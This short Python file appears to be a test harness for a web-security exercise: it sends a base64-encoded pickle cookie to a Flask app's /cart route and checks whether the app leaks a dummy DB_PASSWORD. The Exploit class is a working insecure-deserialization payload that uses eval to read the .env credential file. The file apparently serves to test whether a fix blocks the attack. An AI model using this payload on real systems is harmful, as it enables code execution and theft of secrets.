"""Sends a cart that reads the settings while it is loaded."""

import base64
import json
import pickle
from pathlib import Path


class Exploit:
    def __reduce__(self):
        return eval, ("[open('.env').read()]",)


def prepare():
    Path(".env").write_text("DB_PASSWORD=correct-horse", encoding="utf-8")


def attack(code):
    text = cart(code, pickled(Exploit()))
    return text if "DB_PASSWORD" in text else None


def use(code):
    honest = [pickled(["lamp"]), json.dumps(["lamp"])]
    assert '["lamp"]' in [cart(code, cookie) for cookie in honest]


def pickled(value):
    return base64.b64encode(pickle.dumps(value)).decode()


def cart(code, cookie):
    browser = code.app.test_client()
    browser.set_cookie("cart", cookie)
    return browser.get("/cart").get_data(as_text=True).strip()
